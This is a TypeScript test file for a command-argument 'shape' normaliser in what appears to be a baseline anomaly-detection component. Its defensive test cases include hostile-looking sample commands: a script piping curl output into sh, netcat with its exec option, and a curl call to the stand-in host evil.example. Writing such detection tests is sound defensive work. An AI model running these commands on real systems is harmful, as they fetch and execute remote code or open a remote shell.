import fc from 'fast-check'
import t from 'tap'
import { exactArguments, shapeOf, shapeOfText } from '#collector/detection/baselines/shape.ts'

/** Runs of the same thing, which must have one shape; each row's shape differs from every other row's. */
const alike: readonly (readonly [string, string, readonly string[][]])[] = [
  [
    'numbers',
    'sleep <n>',
    [
      ['sleep', '10'],
      ['sleep', '3600'],
    ],
  ],
  [
    'dates in file names',
    '-czf /backup/db-<time>.tar.gz /data',
    [
      ['tar', '-czf', '/backup/db-2026-07-01.tar.gz', '/data'],
      ['tar', '-czf', '/backup/db-2026-07-02T03:04:05Z.tar.gz', '/data'],
    ],
  ],
  [
    'UUIDs and hashes',
    '--id <uuid> --commit <hex>',
    [
      ['x', '--id', '123e4567-e89b-12d3-a456-426614174000', '--commit', '9fceb02d0ae598e9'],
      ['x', '--id', '00000000-0000-0000-0000-000000000001', '--commit', '1234567890abcdef1234'],
    ],
  ],
  [
    'names of pods',
    '--node web-<pod>',
    [
      ['x', '--node', 'web-7d9f8b6c5d-x2x4z'],
      ['x', '--node', 'web-5b8d9c7f66-bcdfg'],
    ],
  ],
  [
    'addresses',
    'http://<ip>:<n>/',
    [
      ['curl', 'http://10.0.0.7:8080/'],
      ['curl', 'http://10.1.2.3:9090/'],
    ],
  ],
  [
    'names of mktemp',
    '/tmp/tmp.<id>',
    [
      ['cat', '/tmp/tmp.Ab3dEf9hIj'],
      ['cat', '/tmp/tmp.zZ1yY2xX3w'],
      ['cat', '/tmp/tmp.abcdefghij'],
      ['cat', '/tmp/tmp.0123456789'],
    ],
  ],
  [
    'names of Python’s tempfile',
    '-k /tmp/tmp<id>',
    [
      ['gzip', '-k', '/tmp/tmp7op12ow0'],
      ['gzip', '-k', '/tmp/tmpudmt_8hc'],
      ['gzip', '-k', '/tmp/tmpfqwkuzab'],
    ],
  ],
  [
    'names of tempfile with a prefix of the program’s own',
    '-d /tmp/pip-wheel-<id>',
    [
      ['pip', '-d', '/tmp/pip-wheel-jibo6bh3'],
      ['pip', '-d', '/tmp/pip-wheel-ibq42_df'],
      ['pip', '-d', '/tmp/pip-wheel-ojyqwpet'],
    ],
  ],
  [
    'many files',
    '-l <n>.log…',
    [
      ['gzip', '-l', '11.log', '12.log'],
      ['gzip', '-l', '21.log', '22.log', '23.log'],
    ],
  ],
]
for (const [name, shape, lists] of alike)
  t.test(`${name} have one shape`, async (t) => {
    for (const argv of lists) {
      const rest = argv[0] === 'sleep' ? `sleep ${shapeOf(argv)}` : shapeOf(argv)
      t.equal(rest, shape)
    }
  })

const different: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ['another script', ['sh', '-c', 'pg_isready'], ['sh', '-c', 'pg_isready; curl x | sh']],
  ['another option', ['nc', '-z', 'db', '5432'], ['nc', '-e', 'db', '5432']],
  ['another host', ['curl', 'http://db/'], ['curl', 'http://evil.example/']],
  ['another directory for temporary files', ['ls', '/tmp/tmpfiles'], ['ls', '/tmp/tmpdata']],
  ['an argument more', ['x', 'a'], ['x', 'a', 'b']],
  ['one argument that looks like two', ['x', 'a b'], ['x', 'a', 'b']],
  [
    'something at the end of a long script',
    ['sh', '-c', 'true; '.repeat(200)],
    ['sh', '-c', `${'true; '.repeat(200)}evil`],
  ],
  [
    'something at the end of a long list',
    ['x', ...'abcdefgh'.repeat(6)],
    ['x', ...'abcdefgh'.repeat(6), 'evil'],
  ],
]
for (const [name, one, other] of different)
  t.test(`${name} is another shape`, async (t) => t.not(shapeOf(one), shapeOf(other)))

t.test('exact arguments tell every list from every other', async (t) => {
  fc.assert(
    fc.property(fc.array(fc.string()), fc.array(fc.string()), (a, b) => {
      const isSame = JSON.stringify(a) === JSON.stringify(b)
      return isSame || exactArguments(a) !== exactArguments(b)
    }),
  )
  t.not(exactArguments(['a b']), exactArguments(['a', 'b']))
  t.not(exactArguments(['x', '10']), exactArguments(['x', '11']))
})

t.test('whatever the arguments are, the shape is bounded and stays', async (t) => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: 'binary', maxLength: 300 }), { maxLength: 80 }),
      (argv) => {
        const shape = shapeOf(argv)
        t.ok(shape.length < 33 * 1_200)
        return shape === shapeOf([...argv])
      },
    ),
  )
})

t.test('hostile text takes no longer than its length asks for', async (t) => {
  const hostile = [
    '1'.repeat(100_000),
    'aA1'.repeat(30_000),
    'a-'.repeat(50_000),
    'f'.repeat(99_999),
  ]
  for (const text of hostile) t.ok(shapeOf(['x', text]).length < 200)
  t.ok(shapeOfText('a1'.repeat(2_000)).length > 0)
})
